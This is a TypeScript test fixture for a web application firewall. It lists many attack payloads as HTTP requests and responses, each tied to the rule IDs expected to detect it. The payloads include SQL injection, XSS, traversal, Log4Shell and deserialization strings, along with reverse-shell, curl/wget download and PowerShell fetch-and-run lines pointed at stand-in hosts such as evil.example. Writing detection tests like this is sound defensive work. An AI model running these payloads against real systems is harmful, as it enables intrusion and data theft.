/** What the embedded rule set has to stop, written for it: each attack with the rules that must see it. */
import type { RawTransaction } from '../../src/waf/transaction.ts';

export interface Attack {
  readonly name: string;
  /** All of these match; others may. */
  readonly rules: readonly number[];
  readonly transaction: RawTransaction;
  /** False: it scores below the threshold. */
  readonly blocked: boolean;
}

const HEADERS: readonly (readonly [string, string])[] = [
  ['Host', 'shop.example'],
  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'],
  ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
  ['Accept-Language', 'de,en-US;q=0.7,en;q=0.3'],
  ['Accept-Encoding', 'gzip, deflate, br'],
  ['Cookie', 'session=4f1c7a90b2; theme=dark; _ga=GA1.2.1234567890.1700000000'],
];

/** Text as its bytes, one character each. */
export const octets = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');

type Change = Partial<Omit<RawTransaction, 'headers'>> & { readonly headers?: readonly (readonly [string, string])[] };

export function request({ headers = [], ...change }: Change = {}): RawTransaction {
  const names = new Set(headers.map(([name]) => name.toLowerCase()));
  return {
    ...{ method: 'GET', uri: '/', protocol: 'HTTP/1.1', body: '', peer: '192.0.2.7' },
    ...change,
    headers: [...HEADERS.filter(([name]) => !names.has(name.toLowerCase())), ...headers],
  };
}

export const inQuery = (value: string, name = 'q'): RawTransaction =>
  request({ uri: `/search?${encodeURIComponent(name)}=${encodeURIComponent(value)}` });

export function withBody(
  type: string,
  body: string,
  headers: readonly (readonly [string, string])[] = [],
): RawTransaction {
  const bytes = octets(body);
  const length = String(bytes.length);
  return request({
    ...{ method: 'POST', uri: '/api/items', body: bytes },
    headers: [['Content-Type', type], ['Content-Length', length], ...headers],
  });
}

export const inForm = (value: string, name = 'text'): RawTransaction =>
  withBody('application/x-www-form-urlencoded', `${encodeURIComponent(name)}=${encodeURIComponent(value)}&page=1`);
export const inJson = (value: unknown): RawTransaction => withBody('application/json', JSON.stringify(value));
export const inHeader = (name: string, value: string): RawTransaction => request({ headers: [[name, value]] });

const BOUNDARY = '----boundary7MA4YWxk';
export const upload = (filename: string, content: string): RawTransaction =>
  withBody(
    `multipart/form-data; boundary=${BOUNDARY}`,
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n${content}\r\n--${BOUNDARY}--\r\n`,
  );

export const answer = (status: number, type: string, body: string): RawTransaction =>
  request({
    response: {
      ...{ status, protocol: 'HTTP/1.1', body: octets(body) },
      headers: [
        ['Content-Type', type],
        ['Content-Length', String(octets(body).length)],
      ],
    },
  });

const attack = (name: string, rules: number | readonly number[], transaction: RawTransaction): Attack => ({
  name,
  rules: typeof rules === 'number' ? [rules] : rules,
  transaction,
  blocked: true,
});
const noted = (...args: Parameters<typeof attack>): Attack => ({ ...attack(...args), blocked: false });
/** Values that each rule has to see in JSON, as `both` was given them. */
export const VALUES: (readonly [rule: number, value: string])[] = [];
/** The same text in a query and in JSON. */
const both = (rule: number, ...values: readonly string[]): Attack[] =>
  values.flatMap((value) => {
    VALUES.push([rule, value]);
    return [
      attack(`${value} in a query`, rule, inQuery(value)),
      attack(`${value} in JSON`, rule, inJson({ item: { note: value } })),
    ];
  });

export const ATTACKS: readonly Attack[] = [
  // Protocol
  attack('TRACE', 9010010, request({ method: 'TRACE' })),
  attack('method override', 9010020, inHeader('X-HTTP-Method-Override', 'TRACE')),
  attack('NUL in the path', 9010030, request({ uri: '/a%00.html' })),
  attack('two framings', 9010040, withBody('text/plain', '0\r\n\r\n', [['Transfer-Encoding', 'chunked']])),
  attack('disguised framing', 9010050, request({ method: 'POST', headers: [['Transfer-Encoding', 'xchunked']] })),
  attack('length that is none', 9010060, request({ method: 'POST', headers: [['Content-Length', '+5']] })),
  attack(
    'two hosts',
    9010070,
    request({
      headers: [
        ['Host', 'a.example'],
        ['host', 'b.example'],
      ],
    }),
  ),
  noted('many ranges', 9010080, inHeader('Range', `bytes=${'0-1,'.repeat(13)}2-3`)),
  attack('line break in a header', 9010120, inHeader('X-Note', 'a\r\nSet-Cookie: b=c')),
  attack('httpoxy', 9010090, inHeader('Proxy', 'http://evil.example/')),
  attack('another path in a header', 9010100, inHeader('X-Original-URL', '/admin')),
  attack('sqlmap', 9010110, inHeader('User-Agent', 'sqlmap/1.8.2#stable (https://sqlmap.org)')),
  attack('nuclei', 9010110, inHeader('User-Agent', 'Mozilla/5.0 Nuclei - Open-source project')),
  attack('line break in the path', 9010130, request({ uri: '/a%0d%0aSet-Cookie:x=1' })),
  attack('response splitting', 9010140, inQuery('x\r\nSet-Cookie: admin=1')),
  attack('smuggled request', 9010150, inQuery('x\r\nGET /admin HTTP/1.1')),
  attack('NUL in a value', 9010180, inForm('a\u0000b')),
  attack(
    'two lines of types',
    9010160,
    request({
      method: 'POST',
      headers: [
        ['Content-Type', 'text/plain'],
        ['content-type', 'application/json'],
      ],
      body: '{}',
    }),
  ),
  attack('two types in a line', 9010170, withBody('text/plain; charset=utf-8, application/json', '{"a":1}')),
  ...[
    'application/x-www-form-urlencoded; charset=ibm037',
    'text/plain;charset="UTF-7"',
    "application/json; Charset = 'utf-16le'",
    'text/xml; charset=cp037',
    'application/json; charset=IBM500; boundary=x',
  ].map((type) => attack(type, 9010230, withBody(type, ''))),
  attack('two encodings', 9010240, withBody('text/plain; charset=utf-8; charset=ibm037', 'a')),
  attack('upload of a program', 9010190, upload('shell.php', 'x')),
  attack('upload of a program with another end', 9010190, upload('shell.PhP. ', 'x')),
  attack('upload to another folder', 9010200, upload('../../x.png', 'x')),

  // SQL
  ...both(
    9020010,
    "1' or '1'='1",
    "admin'-- ",
    "1' UNION SELECT username, password FROM users-- ",
    '1 OR 1=1',
    "'; DROP TABLE users--",
  ),
  ...both(
    9020020,
    '-1 union all select null,null,version()',
    '1/**/UNION/**/SELECT/**/1,2,3',
    '0 UNION SELECT a, b FROM c',
  ),
  ...both(
    9020030,
    "1' and sleep(5)#",
    "1;WAITFOR DELAY '0:0:5'",
    "1' or pg_sleep(10)--",
    '1 AND BENCHMARK(5000000,MD5(1))',
  ),
  ...both(
    9020040,
    '1 and extractvalue(1,concat(0x7e,version()))',
    "'; exec xp_cmdshell 'dir'",
    "load_file('/etc/passwd')",
  ),
  ...both(9020050, '1 and (select count(*) from information_schema.tables)>0'),
  ...both(9020060, '1; drop table users', "x'); DELETE FROM accounts; --"),
  ...both(9020080, "admin'--", "anna@example.com' #", "x')/*"),
  ...both(9020090, "x' or '{\"a\":1}'::jsonb <@ '{}'", "json_extract('{}','$.a')=1"),
  ...both(9020075, '*)(uid=*))(|(uid=*', 'admin)(&)', 'x)(|(password=*))'),
  attack('operator for a password', 9020070, request({ uri: '/login?user=a&password%5B%24ne%5D=x' })),
  attack('operator for a password in JSON', 9020070, inJson({ username: 'a', password: { $gt: '' } })),
  attack('function of a document store', 9020070, inJson({ $where: 'sleep(1000)' })),
  attack('SQL in the user agent', 9020010, inHeader('User-Agent', "x' or '1'='1")),
  attack('SQL in a cookie', 9020010, inHeader('Cookie', "id=1' or '1'='1")),

  // Script
  ...both(9030010, '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '<svg/onload=alert(1)>'),
  ...both(9030020, '<img src=x onerror=alert(1)>', '<button formaction="javascript:alert(1)">'),
  ...both(9030030, 'javascript:alert(document.domain)', ' java\tscript:alert(1)', 'JaVaScRiPt://%0aalert(1)'),
  ...both(9030040, 'data:text/html;base64,PHNjcmlwdD4='),
  ...both(9030050, "{{constructor.constructor('alert(1)')()}}"),

  // Files
  attack('traversal in the path', 9040010, request({ uri: '/static/..%2f..%2fetc/passwd' })),
  attack('traversal in the path, encoded twice', 9040010, request({ uri: '/static/%252e%252e/secret' })),
  attack('traversal in the path, overlong', 9040010, request({ uri: '/static/%c0%ae%c0%ae/secret' })),
  ...[
    '/.git/config',
    '/.env',
    '/app/.env.production',
    '/.aws/credentials',
    '/wp-config.php.bak',
    '/WEB-INF/web.xml',
    '/.claude/settings.json',
    '/.mcp.json',
  ].map((uri) => attack(uri, 9040020, request({ uri }))),
  attack('actuator', 9040020, request({ uri: '/actuator/heapdump' })),
  ...both(9040030, '../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '/var/www/../../etc/passwd'),
  ...both(9040040, '../etc/passwd', 'x/../../WEB-INF/web.xml'),
  ...both(9040050, '/etc/passwd', 'file:///etc/shadow', 'C:\\Windows\\win.ini', '/proc/self/environ'),
  ...both(9040060, 'php://filter/convert.base64-encode/resource=index.php', 'phar://x.phar/a', 'expect://id'),
  ...both(9040070, '<!ENTITY x SYSTEM "file:///etc/passwd">'),
  attack(
    'external entity',
    9060040,
    withBody(
      'application/xml',
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    ),
  ),

  // Commands
  ...both(9050010, '127.0.0.1; whoami', 'x|id', '8.8.8.8 && uname -a', ';id', 'a || ls -la'),
  ...both(9050020, 'x; cat /etc/passwd', '| ls /tmp', '$(rm -rf /var/www)', 'a && /bin/cat /proc/version'),
  ...both(9050030, '; curl http://evil.example/x.sh', '| wget -q -O- evil.example', '&& nslookup x.evil.example'),
  ...both(9050020, 'cat /etc/passwd', '; sudo cat /root/.bashrc'),
  ...both(9050040, 'bash -c "id"', 'nohup sh -c whoami'),
  ...both(9050040, '; bash -c "id"', "| python3 -c 'import os'", '; perl -e 1'),
  ...both(9050050, 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'cat${IFS}x', 'nc -e /bin/sh 10.0.0.1 4444'),
  ...both(9050060, '$(whoami)', 'x$(sleep 5)', '$(cat /etc/hostname)'),
  ...both(9050065, '/etc/pas[s]wd', 'x /bin/c?t y'),
  attack('Shellshock', 9050070, inHeader('User-Agent', '() { :; }; /bin/ping -c 1 192.0.2.1')),
  ...both(
    9050080,
    '& cmd /c dir',
    '; powershell -enc SQBFAFgA',
    'certutil -urlcache -f http://x/y z.exe',
    'for %a in (1 2) do echo %a',
  ),
  ...both(9050090, "IEX (New-Object Net.WebClient).DownloadString('http://x/y')"),
  ...both(9050100, "<?php system($_GET['c']); ?>", '<?= shell_exec($x) ?>'),
  ...both(9050110, 'phpinfo();', "eval(base64_decode('x'))", 'assert($_POST[1])', 'system("cat x")'),
  ...both(
    9050120,
    "require('child_process').exec('id')",
    'process.mainModule.require("fs")',
    'this.constructor.constructor("return process")()',
  ),
  attack('prototype', 9050130, inJson(JSON.parse('{"__proto__":{"admin":true}}'))),
  attack('prototype in a query', 9050130, request({ uri: '/?constructor%5Bprototype%5D%5Badmin%5D=1' })),
  ...both(9050140, "''.__class__.__mro__[1].__subclasses__()", "__import__('os').popen('id').read()"),

  // Templates
  ...both(9055010, '{{7*7}}', '${7*7}', '<%= 7*7 %>', "{{7*'7'}}"),
  ...both(9055020, '{{config.items()}}', "{{''.__class__}}", "{{_self.env.registerUndefinedFilterCallback('exec')}}"),
  ...both(9055030, "${T(java.lang.Runtime).getRuntime().exec('id')}", "%{(#_memberAccess['x']=1)}"),
  attack('class loader', 9055030, request({ uri: '/?class.module.classLoader.resources.context.parent.x=1' })),
  ...both(9055040, '${jndi:ldap://evil.example/a}', '${ jndi:rmi://x/y}'),
  ...both(9055050, '${${lower:j}ndi:ldap://x/y}', '${${::-j}${::-n}di:rmi://x/y}', '${${env:X:-j}ndi:dns://x/y}'),
  attack('Log4shell in a header', 9055040, inHeader('X-Api-Version', '${jndi:ldap://evil.example/a}')),
  attack('Log4shell in the path', 9055040, request({ uri: '/$%7Bjndi:ldap://evil.example/a%7D' })),

  // Forged requests
  ...both(
    9060010,
    'http://169.254.169.254/latest/meta-data/',
    'http://metadata.google.internal/',
    '//169.254.169.254/',
    'http://[fd00:ec2::254]/',
  ),
  ...both(9060010, 'http://2852039166/', 'http://x@169.254.169.254/'),
  ...both(9060020, 'http://imds.evil.example/latest/meta-data/iam'),
  ...both(
    9060030,
    'http://2130706433/',
    'http://0x7f000001/',
    'http://0/',
    'http://[::ffff:127.0.0.1]/',
    'http://127.1/',
  ),
  ...both(9060040, 'gopher://127.0.0.1:6379/_x', 'file:///etc/hostname', 'dict://x:11211/'),
  ...both(9060050, 'http://abc123.oastify.com/', 'x.burpcollaborator.net'),

  // Objects
  ...both(9070010, 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA', 'aced0005737200'),
  ...both(9070020, 'com.sun.rowset.JdbcRowSetImpl', 'org.apache.commons.collections.functors.InvokerTransformer'),
  ...both(9070020, 'x.InvokerTransformer'),
  ...both(9070030, 'O:8:"Evil\\User":1:{s:4:"name";s:1:"x";}', 'a:1:{i:0;O:4:"Evil":1:{}}'),
  ...both(9070040, "cos\nsystem\n(S'id'\ntR.", '!!python/object/apply:os.system ["id"]'),
  ...both(9070050, 'AAEAAAD/////AQAAAAAAAAAMAgAAAF', 'System.Windows.Data.ObjectDataProvider, PresentationFramework'),
  ...both(9070060, '_$$ND_FUNC$$_function(){}', '--- !ruby/object:Gem::Installer'),

  // Bodies that nothing takes apart
  ...(
    [
      [9040075, '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
      [9050105, '<?php system($_GET[1]);'],
      [9055060, 'x ${JNDI:ldap://evil.example/a}'],
      [9055060, 'x ${${lower:j}ndi:ldap://evil.example/a}'],
      [9070010, '\u00ac\u00ed\u0000\u0005sr'],
      [9070040, '!!python/object/apply:os.system ["id"]'],
      [9070050, 'AAEAAAD/////AQAAAAAAAAAMAgAAAF'],
      [9070070, '{"x":"com.sun.rowset.JdbcRowSetImpl"}'],
      [9070070, 'O:8:"Evil\\User":1:{s:4:"name";s:1:"x";}'],
      [9070070, '{"x":"_$$ND_FUNC$$_function(){}()"}'],
    ] as const
  ).map(([rule, text]) => attack(`${text} as a body`, rule, { ...withBody('text/plain', ''), body: text })),

  // Answers
  attack('private key', 9080010, answer(200, 'text/plain', '-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\n')),
  attack(
    'cloud key',
    9080020,
    answer(200, 'application/json', '{"SecretAccessKey": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}'),
  ),
  attack('passwords of the system', 9080030, answer(200, 'text/html', '<pre>root:x:0:0:root:/root:/bin/bash\n</pre>')),
  attack(
    'answer of a command',
    9080030,
    answer(200, 'text/html', 'uid=33(www-data) gid=33(www-data) groups=33(www-data)'),
  ),
  attack(
    'error of MySQL',
    9080040,
    answer(200, 'text/html', 'You have an error in your SQL syntax; check the manual that corresponds'),
  ),
  attack('error of Oracle', 9080040, answer(500, 'text/html', 'ORA-01756: quoted string not properly terminated')),
  attack(
    'error of PHP',
    9080050,
    answer(200, 'text/html', '<b>Warning</b>:  fopen(): x in <b>/var/www/a.php</b> on line <b>3</b>'),
  ),
  attack(
    'trace of Java',
    9080060,
    answer(
      500,
      'text/html',
      'java.lang.X\n\tat com.example.a.Main.run(Main.java:12)\n\tat com.example.a.Main.main(Main.java:3)\n',
    ),
  ),
  attack(
    'trace of Python',
    9080060,
    answer(500, 'text/plain', 'Traceback (most recent call last):\n  File "/app/a.py", line 1'),
  ),
  attack(
    'debugging page',
    9080070,
    answer(500, 'text/html', "You're seeing this error because you have <code>DEBUG = True</code>"),
  ),
  attack('source', 9080080, answer(200, 'text/plain', '<?php $password = "x";')),
  attack('web shell', 9080100, answer(200, 'text/html', '<html><title>WSO shell 2.5</title>')),
  attack('list of a folder', 9080090, answer(200, 'text/html', '<html><head><title>Index of /backup</title>')),
];

/** Seen at level 2 only: level 1 lets them pass. */
export const LEVEL_2: readonly Attack[] = [
  noted('broken encoding', 9010300, request({ uri: '/?q=100%' })),
  noted('no type', 9010320, request({ method: 'POST', headers: [['Content-Length', '1']] })),
  attack('SQL in the path', 9020100, request({ uri: "/items/1'%20or%20'1'='1" })),
  noted('quote and comment', 9020120, inQuery('see "this" -- and \'that\'/* too')),
  attack('script in the path', 9030100, request({ uri: '/%3Cscript%3Ealert(1)%3C/script%3E' })),
  attack('markup', 9030120, inQuery('a <form > of thanks')),
  attack('command behind a separator', 9050210, inQuery('name; id card')),
  attack('PHP', 9050220, inQuery('what is <?php good for')),
  attack(
    'trace with a good status',
    9080210,
    answer(200, 'text/html', 'Traceback (most recent call last):\n  File "/app/a.py"'),
  ),
  attack('backup', 9040100, request({ uri: '/db.sql.gz' })),
  attack('one step up', 9040110, inQuery('../index')),
  attack('constants', 9020110, inQuery('salt and 1 is enough')),
  attack('own network', 9060100, inQuery('http://192.168.1.1/admin')),
  attack('words of scripts', 9030110, inQuery('what does document.cookie hold')),
  attack('backticks', 9050200, inQuery('`id`')),
  attack('filter of a document store', 9020130, request({ uri: '/items?price%5B%24gte%5D=5' })),
  attack('script', 9080220, answer(200, 'text/plain', '#!/bin/sh\nset -e\n')),
  attack('name of a key', 9080200, answer(200, 'text/html', 'AKIAIOSFODNN7EXAMPLE')),
];
